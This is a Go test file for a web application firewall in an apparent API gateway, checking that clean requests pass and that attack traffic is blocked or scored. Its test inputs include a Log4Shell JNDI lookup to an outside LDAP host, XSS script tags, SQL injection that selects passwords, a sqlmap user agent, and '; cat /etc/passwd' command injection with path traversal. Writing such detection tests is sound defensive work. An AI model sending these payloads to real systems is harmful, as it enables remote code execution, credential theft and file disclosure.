package waf_test

import (
	"encoding/json"
	"net/http"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"redoubt.example/gateway/internal/waf"
)

// engines are made once: each takes a second.
var engines [waf.Levels + 1]func() (*waf.Engine, error)

func init() {
	for level := range engines {
		engines[level] = sync.OnceValues(func() (*waf.Engine, error) { return waf.New(level) })
	}
}

func engine(t testing.TB, level int) *waf.Engine {
	t.Helper()
	e, err := engines[level]()
	require.NoError(t, err)
	return e
}

// TestHonestRequestsNeedNoRules: what clients of this API send is clean by the screen alone, or it would cost what the
// rules do.
func TestHonestRequestsNeedNoRules(t *testing.T) {
	e := engine(t, 1)
	for _, r := range []waf.Request{
		{Method: "GET", URI: "/v1/documents?limit=20&cursor=bmV4dA", Proto: "HTTP/1.1", Address: "192.0.2.1", Header: http.Header{"Host": {"gateway"}, "Accept": {"*/*"}}},
		{Method: "PUT", URI: "/v1/account/payment-reference", Proto: "HTTP/2.0", Address: "192.0.2.1", Body: []byte(`{"reference":"DE89 3704 0044 0532 0130 00"}`),
			Header: http.Header{"Host": {"gateway"}, "Accept": {"application/json"}, "Content-Type": {"application/json"}, "Idempotency-Key": {"0193-a.b_c"}}},
		{Method: "DELETE", URI: "/v1/webhook-endpoints/01939f6e-72a6-7d7c-a2a4-3d3f8b1f6a61", Proto: "HTTP/2.0", Address: "192.0.2.1", Header: http.Header{"Host": {"gateway"}, "Accept": {"*/*"}}},
		inJSON(t, "Quarterly figures are attached; please comment by Thursday, 4 pm."),
		inJSON(t, "Sehr geehrte Frau Müller, vielen Dank für Ihre Nachricht vom 3. Mai. Wir melden uns nächste Woche."),
		inJSON(t, "Where is the station? It's two streets down, next to the bakery - you can't miss it!"),
		inJSON(t, "Le conseil s'est réuni mardi. La prochaine réunion aura lieu le 12 décembre à 10 h 30."),
	} {
		clean, err := e.Screen(r)
		for tries := 0; !clean && tries < 20; tries++ { // words that it hasn't met yet: a few requests, and it knows them
			clean, err = e.Screen(r)
		}
		require.NoError(t, err)
		require.True(t, clean, "%s %s %s", r.Method, r.URI, r.Body)
	}
}

// TestCleanHeadIsNoPassport: what is remembered of a clean request is all of it.
func TestCleanHeadIsNoPassport(t *testing.T) {
	e := engine(t, 1)
	clean := waf.Request{Method: "GET", URI: "/v1/documents", Proto: "HTTP/2.0", Address: "192.0.2.1", Header: http.Header{
		"Host": {"gateway"}, "Accept": {"*/*"}, "User-Agent": {"curl/8.1"}}}
	ask := func(change func(*waf.Request)) waf.Verdict {
		r := clean
		r.Header = clean.Header.Clone()
		change(&r)
		v, err := e.Inspect(r)
		require.NoError(t, err)
		return v
	}
	for range 3 {
		require.True(t, ask(func(*waf.Request) {}).Clean())
	}
	for name, change := range map[string]func(*waf.Request){
		"another agent":  func(r *waf.Request) { r.Header["User-Agent"] = []string{"sqlmap/1.8"} },
		"another field":  func(r *waf.Request) { r.Header["Accept-Language"] = []string{"${jndi:ldap://198.51.100.7/a}"} },
		"a second value": func(r *waf.Request) { r.Header["Accept"] = []string{"*/*", "<script>alert(1)</script>"} },
		"another query":  func(r *waf.Request) { r.URI += "?a=1'%20or%20'1'='1" },
		"another method": func(r *waf.Request) { r.Method = "TRACE" },
		"a body": func(r *waf.Request) {
			r.Header["Content-Type"] = []string{"application/json"}
			r.Body = []byte(`{"a":"<script>alert(1)</script>"}`)
		},
	} {
		require.False(t, ask(change).Clean(), name)
	}
}

func TestVerdict(t *testing.T) {
	e := engine(t, 1)
	v, err := e.Inspect(inJSON(t, "1' OR '1'='1' UNION SELECT password FROM users--"))
	require.NoError(t, err)
	require.True(t, v.Block)
	require.GreaterOrEqual(t, v.Score, 5)
	require.Contains(t, v.Rules, 942100)
	same, err := e.Rules(inJSON(t, "1' OR '1'='1' UNION SELECT password FROM users--"))
	require.NoError(t, err)
	require.Equal(t, same, v)
	for _, level := range []int{0, 5, -1} {
		_, err := waf.New(level)
		require.ErrorContains(t, err, "paranoia levels 1 to 4")
	}
}

// FuzzScreen: whatever is in a body, the screen doesn't call clean what the rules would block or score.
func FuzzScreen(f *testing.F) {
	f.Add("<script>alert(1)</script>", "q=1")
	f.Add("${jndi:ldap://x}", "a=%27%20or%201=1")
	f.Add("; cat /etc/passwd", "x=..%2f..%2fetc%2fpasswd")
	e := engine(f, 2) // here: one text mustn't take ten seconds, and on a busy machine this does
	f.Fuzz(func(t *testing.T, text, query string) {
		r := inJSON(t, text)
		r.URI = "/v1/documents?" + query
		clean, err := e.Screen(r)
		require.NoError(t, err)
		if clean {
			verdict, err := e.Rules(r)
			require.NoError(t, err)
			require.True(t, verdict.Clean(), "%+v", verdict)
		}
	})
}

func inJSON(t testing.TB, text string) waf.Request {
	body, err := json.Marshal(map[string]any{"title": "Minutes", "text": text})
	require.NoError(t, err)
	return waf.Request{Method: "POST", URI: "/v1/documents", Proto: "HTTP/2.0", Address: "192.0.2.1", Body: body, Header: http.Header{
		"Host": {"gateway"}, "Content-Type": {"application/json"}, "Accept": {"*/*"}, "User-Agent": {"curl/8.1"}}}
}
